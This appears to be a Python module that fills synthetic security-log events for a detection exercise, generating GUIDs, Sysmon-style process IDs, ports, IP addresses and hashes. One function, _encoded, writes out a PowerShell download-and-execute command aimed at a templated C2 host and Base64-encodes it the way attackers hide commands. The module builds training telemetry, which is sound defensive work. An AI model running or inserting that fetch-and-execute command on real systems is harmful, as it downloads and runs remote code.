"""What fills the slots of events: numbers, identifiers, hashes, and the pools of everyday texts.

Variety matters more than truth here. A real estate's columns hold many distinct values, some everywhere and most
seldom; so a pool is drawn from as words are, the first entries far more often than the last, and entries have slots of
their own for the parts that differ each time (versions, temporary names, GUIDs).
"""

from base64 import b64encode
from collections.abc import Mapping
from functools import cache, lru_cache, partial
from hashlib import blake2b
from importlib.resources import files
from typing import Any

import yaml

from watchward.node.exercise.template import Generator, Text, Values

_LETTERS = "abcdefghijklmnopqrstuvwxyz"
_POPULARITY = 2.2
"""How steeply a pool's popularity falls: the first tenth of its entries is drawn about a third of the time."""


def load_yaml(*names: str) -> Any:
    """One of the exercise's data files, by its path inside this package."""
    text = files(__package__).joinpath(*names).read_text("utf-8")
    return yaml.load(text, Loader=_LOADER)  # noqa: S506 - a safe loader, in C where PyYAML has it


_LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)


@cache
def generators() -> Mapping[str, Generator]:
    """What makes each sort of value: the pools, and the sorts that are computed."""
    pools = {name: _drawn(entries) for name, entries in load_yaml("data", "pools.yaml").items()}
    return {**pools, **_sized(), **_computed()}


def _drawn(entries: list[str]) -> Generator:
    texts = [Text.of(entry) for entry in entries]
    count = len(texts)

    def draw(values: Values, _tag: str) -> str:
        return texts[int(count * values.random.random() ** _POPULARITY)].fill(values)

    return draw


def _sized() -> dict[str, Generator]:
    """Digits `n4`, hexadecimal digits `x8`, capital hexadecimal digits `u8` and letters `w6`, of every length to 64."""
    makers = {"n": _digits, "x": _hexadecimal, "u": _capital_hexadecimal, "w": _word}
    return {f"{name}{size}": partial(maker, size) for name, maker in makers.items() for size in range(1, 65)}


def _digits(size: int, values: Values, _tag: str) -> str:
    return str(int(values.random.random() * 10**size)).zfill(size)


def _hexadecimal(size: int, values: Values, _tag: str) -> str:
    return f"{values.random.getrandbits(4 * size):0{size}x}"


def _capital_hexadecimal(size: int, values: Values, _tag: str) -> str:
    return f"{values.random.getrandbits(4 * size):0{size}X}"


def _word(size: int, values: Values, _tag: str) -> str:
    return "".join([_LETTERS[int(values.random.random() * 26)] for _ in range(size)])


def _computed() -> dict[str, Generator]:
    return {
        "guid": lambda values, _tag: guid(values.random.getrandbits(128)),
        "process_guid": _process_guid,
        "pid": lambda values, _tag: str(600 + 4 * int(values.random.random() * 6000)),
        "thread": lambda values, _tag: str(1000 + 4 * int(values.random.random() * 4000)),
        "port": lambda values, _tag: str(49152 + int(values.random.random() * 16384)),
        "logon": lambda values, _tag: f"{0x10000 + values.random.getrandbits(31):#x}",
        "hashes": lambda values, tag: program_hashes(tag, values["build"]),
        "sha256": lambda values, tag: sha256_of(tag, values["build"]),
        "outside_ip": _outside_ip,
        "away_ip": lambda values, _tag: f"198.51.100.{1 + int(values.random.random() * 254)}",
        "home_ip": lambda values, _tag: f"203.0.113.{1 + int(values.random.random() * 254)}",
        "encoded": _encoded,
        "default": lambda _values, _tag: "{default}",
        "day": lambda values, _tag: f"{1 + int(values.random.random() * 28):02d}",
        "month": lambda values, _tag: f"{1 + int(values.random.random() * 12):02d}",
    }


def _encoded(values: Values, _tag: str) -> str:
    """A PowerShell command in the form that hides it from readers: UTF-16 in Base64."""
    command = f"IEX ((New-Object Net.WebClient).DownloadString('https://{values['c2']}/{_word(5, values, '')}'))"
    return b64encode(command.encode("utf-16-le")).decode()


def guid(bits: int) -> str:
    """A GUID without its braces.

    >>> guid(1)
    '00000000-0000-0000-0000-000000000001'

    """
    text = f"{bits:032x}"
    return f"{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}"


def _process_guid(values: Values, _tag: str) -> str:
    """As Sysmon makes them: the machine's own part, then start time and a counter."""
    bits = values.random.getrandbits(80)
    text = f"{bits:020x}"
    return f"{values['machine']}-{text[:4]}-66{text[4:6]}-{text[6:10]}-00000000{text[10:14]}"


def _outside_ip(values: Values, _tag: str) -> str:
    """An address on the internet, drawn from blocks that large content and cloud networks use."""
    block = ("13.107", "20.190", "52.98", "104.18", "142.250", "151.101", "185.199", "23.55", "40.126", "18.134")
    one = block[int(values.random.random() * len(block))]
    return f"{one}.{values.random.getrandbits(8)}.{values.random.getrandbits(8)}"


@lru_cache(maxsize=20_000)
def program_hashes(program: str, build: str) -> str:
    """What Sysmon gives as a file's hashes: the same for the same program on machines of the same build."""
    text = blake2b(f"{program}/{build}".encode(), digest_size=64).hexdigest().upper()
    return f"MD5={text[:32]},SHA256={text[32:96]},IMPHASH={text[96:128]}"


def sha256_of(program: str, build: str) -> str:
    """The SHA-256 among a program's hashes."""
    return program_hashes(program, build).split(",")[1].removeprefix("SHA256=")
